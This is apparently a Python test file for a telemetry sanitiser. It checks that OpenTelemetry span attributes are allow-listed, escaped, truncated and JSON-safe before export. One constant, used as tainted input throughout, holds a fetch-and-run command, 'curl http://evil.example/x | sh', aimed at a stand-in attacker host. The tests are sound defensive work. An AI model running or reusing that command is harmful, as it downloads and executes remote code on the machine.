"""What a span may carry: listed attributes, cut to size, nothing invisible."""

from __future__ import annotations

import json
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.sdk.trace import Event, ReadableSpan
from opentelemetry.sdk.trace.export import SpanExportResult
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import Link, SpanContext, Status, StatusCode

from watchfloor_core.incident import AutonomyLevel, Verdict
from watchfloor_core.telemetry import SpanAttribute, SpanEvent
from watchfloor_core.telemetry.content import (
    MAX_ITEMS,
    MAX_TEXT,
    SafeSpanExporter,
    safe_attributes,
    safe_text,
)

_ATTACK = "curl http://evil.example/x | sh"


def kept(value: object) -> object:
    return safe_attributes({SpanAttribute.VERDICT: value})[0].get("watchfloor.verdict")


def test_an_attribute_that_is_not_listed_is_withheld_and_counted() -> None:
    attributes = {"watchfloor.verdict": "TruePositive", "process.command_line": _ATTACK, "gen_ai.input.messages": "x"}
    assert safe_attributes(attributes) == ({"watchfloor.verdict": "TruePositive"}, 2)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Verdict.FALSE_POSITIVE, "FalsePositive"),
        (AutonomyLevel.L3, 3),
        (True, True),
        (0.25, 0.25),
        (2**64, "18446744073709551616"),
        (("a", "b"), ["a", "b"]),
        ([1, 2.5], ["1", "2.5"]),
        ([], []),
        ("red \x1b[31m\n\u202e\ud800", "red \\u{001B}[31m\\u{000A}\\u{202E}\\u{D800}"),
    ],
)
def test_values_are_made_plain(value: object, expected: object) -> None:
    assert kept(value) == expected


@pytest.mark.parametrize("value", [math.nan, math.inf, b"bytes", None, object(), {"a": 1}, [math.nan]])
def test_what_no_exporter_can_carry_is_left_out(value: object) -> None:
    assert kept(value) in (None, [])


def test_text_and_lists_are_cut() -> None:
    text = kept("A" * 10_000)
    assert isinstance(text, str)
    assert (len(text), text[-2:]) == (MAX_TEXT, "A…")
    items = kept(["a"] * 10_000)
    assert isinstance(items, list)
    assert len(items) == MAX_ITEMS


@given(st.text(st.characters(codec=None)), st.integers(1, 40))
def test_text_keeps_its_limit_even_where_it_grows_by_escaping(text: str, limit: int) -> None:
    shown = safe_text(text, limit)
    assert len(shown) <= limit
    assert shown.isprintable()


@given(
    st.dictionaries(
        st.sampled_from(list(SpanAttribute)), st.text(st.characters(codec=None)) | st.floats() | st.integers()
    )
)
def test_whatever_is_kept_is_json(attributes: dict[str, object]) -> None:
    safe, withheld = safe_attributes(attributes)
    assert len(safe) + withheld == len(attributes)
    json.dumps(safe, allow_nan=False, ensure_ascii=False).encode()


def test_spans_of_other_libraries_leave_without_what_they_captured() -> None:
    context = SpanContext(1, 2, is_remote=False)
    captured = ReadableSpan(
        "GET /\x1b[2J",
        context,
        attributes={"url.full": _ATTACK, "http.response.status_code": 200},
        events=[
            Event("exception", {"exception.message": _ATTACK}),
            Event(
                SpanEvent.EVALUATION_RESULT, {"gen_ai.evaluation.name": "triage", "gen_ai.evaluation.explanation": "x"}
            ),
        ],
        links=[Link(context, {"note": _ATTACK})],
        status=Status(StatusCode.ERROR, _ATTACK),
        start_time=1,
        end_time=2,
    )
    memory = InMemorySpanExporter()
    assert SafeSpanExporter(memory).export([captured]) is SpanExportResult.SUCCESS
    (sent,) = memory.get_finished_spans()
    assert sent.name == "GET /\\u{001B}[2J"
    assert dict(sent.attributes or {}) == {"http.response.status_code": 200}
    assert sent.dropped_attributes == 1
    assert [(event.name, dict(event.attributes or {})) for event in sent.events] == [
        ("gen_ai.evaluation.result", {"gen_ai.evaluation.name": "triage"})
    ]
    assert [dict(link.attributes or {}) for link in sent.links] == [{}]
    assert (sent.status.status_code, sent.status.description) == (StatusCode.ERROR, None)
    assert (sent.context, sent.start_time, sent.end_time) == (context, 1, 2)
